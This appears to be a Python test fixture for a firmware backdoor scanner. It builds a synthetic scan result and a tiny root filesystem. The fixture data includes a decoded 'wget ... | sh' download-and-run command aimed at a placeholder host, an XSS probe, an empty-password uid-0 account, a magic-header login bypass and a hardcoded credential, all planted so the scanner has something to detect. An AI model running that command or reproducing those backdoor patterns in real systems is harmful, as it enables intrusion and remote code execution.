"""Inputs for the report tests: a hand-built ScanResult (so the tests do not depend on what
other analyzers find) and a tiny root filesystem with a planted empty-password account."""
from __future__ import annotations

import os
from pathlib import Path

from nobackdoor.models import FileEntry, FileKind, Finding, Observation, ScanError, ScanResult, Target
from nobackdoor.ruleset import rule

HERE = Path(__file__).parent


def _entry(path: str, relpath: str, kind: FileKind, sha: str, size: int = 1000) -> FileEntry:
    return FileEntry(path=path, relpath=relpath, root="", realpath=Path("/nonexistent"), size=size,
                     sha256=sha, kind=kind)


def sample_result() -> ScanResult:
    """A firmware image with nested containers, findings with rich evidence, services, components."""
    top = "gw7-fw.bin"
    fs = f"{top}/uimage@0x40/squashfs@0x1000"
    shadow = rule("accounts.empty-password").finding(
        f"{fs}/etc/shadow", "account 'maint' (uid 0) has an empty password and a login shell",
        line=2, evidence={"user": "maint", "uid": "0", "shell": "/bin/sh"})
    alias = rule("accounts.uid0-alias").finding(
        f"{fs}/etc/passwd", "second uid-0 account 'maint' (shell /bin/sh)", line=2,
        evidence={"user": "maint", "uid": 0, "shell": "/bin/sh"})
    # findings of other areas, built directly: the report must show whatever evidence they hold
    bypass = Finding(
        rule="test.magic-header", category="auth-bypass", severity="high", path=f"{fs}/usr/sbin/mgmtd",
        message="login skipped when header X-Svc-Token equals a constant", offset=0x1a2c0,
        evidence={"magic": "7e3a-svc-bypass", "magic_hex": "37 65 33 61 2d 73 76 63",
                  "function": "check_login", "address": "0x41a2c0",
                  "disassembly": "0x41a2b8: lui $a1, 0x45\n0x41a2bc: addiu $a1, $a1, -0x1230\n"
                                 "0x41a2c0: jal strcmp\n0x41a2c4: move $a0, $s0\n0x41a2c8: beqz $v0, 0x41a300",
                  "sinks": ["system", "popen"]},
        requirements=["3gpp-33117-4.2.3.4.1.1"])
    payload = Finding(
        rule="test.encoded-payload", category="obfuscated-code", severity="medium",
        path=f"{fs}/usr/lib/acme/upd.sh", message="base64 payload decoded and evaluated", line=7,
        evidence={"encoding": "base64", "decoded": "wget -q -O- http://upd.example/x | sh\n<script>alert(1)</script>",
                  "layers": [{"encoding": "base64", "length": 56}, {"encoding": "gzip", "length": 40}]},
        requirements=["in-itsar-2.3.4"])
    secret = Finding(
        rule="test.private-key", category="hardcoded-secret", severity="low", path=f"{fs}/etc/ssl/dev.key",
        message="private key in the image", evidence={"credential": "devpass-93", "fingerprint": "SHA256:abc"},
        requirements=["3gpp-33117-4.2.3.4.2.3"])
    result = ScanResult(target=Target(top, "ab" * 32, 123456, "firmware"), tool_version="0.1.0")
    result.findings = sorted([shadow, alias, bypass, payload, secret], key=Finding.sort_key)
    result.files = [
        _entry(f"{top}/uimage@0x40", "uimage@0x40", FileKind.ARCHIVE, "11" * 32),
        # squashfs@0x1000 is a carved chunk: no inventory entry, still a container of the chain
        _entry(f"{fs}/etc/shadow", "etc/shadow", FileKind.TEXT, "33" * 32),
        _entry(f"{fs}/etc/passwd", "etc/passwd", FileKind.TEXT, "44" * 32),
        _entry(f"{fs}/usr/sbin/mgmtd", "usr/sbin/mgmtd", FileKind.ELF, "55" * 32),
        _entry(f"{fs}/bin/busybox", "bin/busybox", FileKind.ELF, "66" * 32),
    ]
    result.observations = [
        Observation("service", f"{fs}/etc/inittab", {
            "program": "/sbin/getty", "program_path": "sbin/getty", "args": ["-L", "ttyS0", "115200"],
            "trigger": "respawn", "source": "etc/inittab:3", "shell": False, "login": True}),
        Observation("service", f"{fs}/etc/init.d/S50mgmt", {
            "program": "mgmtd", "program_path": "usr/sbin/mgmtd", "args": ["-p", "8443"], "trigger": "boot",
            "source": "etc/init.d/S50mgmt:4", "port": 8443, "protocol": "tcp", "shell": False, "login": False}),
        Observation("component", f"{fs}/bin/busybox", {
            "name": "busybox", "version": "1.33.2", "type": "application", "purl": "pkg:generic/busybox@1.33.2",
            "cpe": "cpe:2.3:a:busybox:busybox:1.33.2:*:*:*:*:*:*:*", "source": "binary strings",
            "evidence": "BusyBox v1.33.2", "sha256": "66" * 32}),
        Observation("component", f"{fs}/usr/lib/opkg/status", {
            "name": "libubox", "version": "2021-05-16", "type": "library", "purl": "pkg:generic/openwrt/libubox@2021-05-16",
            "cpe": "", "source": "opkg database", "line": 1, "evidence": "libubox 2021-05-16"}),
    ]
    result.errors = [ScanError(f"{top}/uimage@0x40", "lzma: truncated stream")]
    result.stats = {"files": 6, "bytes": 6000, "seconds": 1.5}
    return result


PASSWD = "root:x:0:0:root:/root:/bin/sh\nopsuser:x:1001:1001::/home/opsuser:/bin/sh\n"
SHADOW = "root:$6$q8Hn2k$5nQ0:19000:0:99999:7:::\nopsuser::19000:0:99999:7:::\n"


def make_rootfs(root: Path) -> Path:
    """A tiny root filesystem: an account with an empty password, a BusyBox banner, an opkg db."""
    for d in ("etc", "bin", "usr/lib/opkg", "lib/modules/5.4.99"):
        (root / d).mkdir(parents=True, exist_ok=True)
    (root / "etc/passwd").write_text(PASSWD)
    (root / "etc/shadow").write_text(SHADOW)
    (root / "etc/os-release").write_text('ID=acmeos\nVERSION_ID="4.2"\nPRETTY_NAME="AcmeOS 4.2"\n')
    (root / "bin/busybox").write_bytes(b"\x00\x01\x02junk\x00BusyBox v1.31.1 (2023-01-01) multi-call binary.\x00" * 2)
    (root / "usr/lib/opkg/status").write_text(
        "Package: dnsmasq\nVersion: 2.85-3\nStatus: install user installed\nArchitecture: mips_24kc\n\n"
        "Package: oldpkg\nVersion: 0.1\nStatus: deinstall ok not-installed\n\n")
    for p in sorted(root.rglob("*")):
        os.utime(p, (1_600_000_000, 1_600_000_000))
    return root
